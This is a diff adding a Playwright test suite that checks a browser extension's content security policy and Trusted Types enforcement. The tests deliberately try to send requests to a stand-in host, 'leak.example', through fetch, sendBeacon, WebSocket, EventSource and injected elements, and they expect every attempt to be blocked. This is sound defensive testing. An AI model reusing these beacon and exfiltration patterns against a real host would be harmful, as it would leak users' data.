@@ -1,0 +1,99 @@
+/** The content security policy of the package, tried from the inside: nothing of an extension page reaches elsewhere. */
+import type { Page } from '@playwright/test';
+import { expect, test } from '../harness/test.ts';
+
+/** Ways out of a document by its elements: tag, attributes, and where in them the address goes. */
+const elements = [
+  { tag: 'img', address: 'src', attributes: {} },
+  { tag: 'iframe', address: 'src', attributes: {} },
+  { tag: 'video', address: 'src', attributes: {} },
+  { tag: 'link', address: 'href', attributes: { rel: 'stylesheet' } },
+  { tag: 'link', address: 'href', attributes: { rel: 'prefetch' } },
+] as const;
+
+/** Tries everything in `view`; says what the policy was seen to refuse. */
+function tryAll(view: Page, url: string, webSocketUrl: string): Promise<string[]> {
+  return view.evaluate(
+    async ({ elements: toAdd, url: target, webSocketUrl: socketTarget }) => {
+      const refused = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        refused.add(effectiveDirective),
+      );
+      for (const { tag, address, attributes } of toAdd) {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        element.setAttribute(address, target);
+        document.body.append(element);
+      }
+      const background = document.createElement('div');
+      background.style.backgroundImage = `url(${target})`;
+      document.body.append(background);
+      await fetch(target).catch(() => undefined);
+      navigator.sendBeacon(target, 'x');
+      try {
+        const socket = new WebSocket(socketTarget);
+        await new Promise((resolve) => {
+          socket.addEventListener('error', resolve);
+          socket.addEventListener('open', resolve);
+        });
+      } catch {
+        // Refused at once.
+      }
+      const events = new EventSource(target);
+      await new Promise((resolve) => {
+        events.addEventListener('error', resolve);
+      });
+      events.close();
+      return [...refused].toSorted();
+    },
+    { elements, url, webSocketUrl },
+  );
+}
+
+for (const file of ['popup.html', 'options.html', 'offscreen.html'])
+  test(`${file} reaches nothing but the package`, async ({ extension, internet, page, site }) => {
+    await page.goto(extension.url(file));
+    for (const origin of [site.url('/leak'), 'https://leak.example/leak']) {
+      const webSocketUrl = origin.replace(/^http/u, 'ws');
+      // oxlint-disable-next-line no-await-in-loop -- one page, one attempt at a time
+      const refused = await tryAll(page, origin, webSocketUrl);
+      expect(refused).toEqual([
+        'connect-src',
+        'default-src',
+        'frame-src',
+        'img-src',
+        'media-src',
+        'style-src-elem',
+      ]);
+    }
+    // What counts is what arrived.
+    expect(site.requests).toEqual([]);
+    expect(internet.requests).toEqual([]);
+  });
+
+test('no string becomes code or markup', async ({ extension, page }) => {
+  await page.goto(extension.url('popup.html'));
+  const outcome = await page.evaluate(() => {
+    const attempt = (act: () => unknown): string => {
+      try {
+        act();
+        return 'allowed';
+      } catch (error) {
+        return error instanceof Error ? error.name : 'refused';
+      }
+    };
+    const element = document.createElement('div');
+    return [
+      attempt(() => (element.innerHTML = '<b>x</b>')),
+      attempt(() => element.insertAdjacentHTML('beforeend', '<b>x</b>')),
+      attempt(() => document.write('x')),
+      attempt(() => new Worker('data:text/javascript,0')),
+      attempt(() => (document.createElement('object').data = 'https://leak.example/x')),
+      attempt(() => (document.createElement('script').src = 'https://leak.example/x.js')),
+      attempt(() => trustedTypes.createPolicy('other', {})),
+    ];
+  });
+  expect(outcome).toEqual(Array.from({ length: 7 }, () => 'TypeError'));
+});
+
+declare const trustedTypes: { createPolicy(name: string, rules: object): unknown };
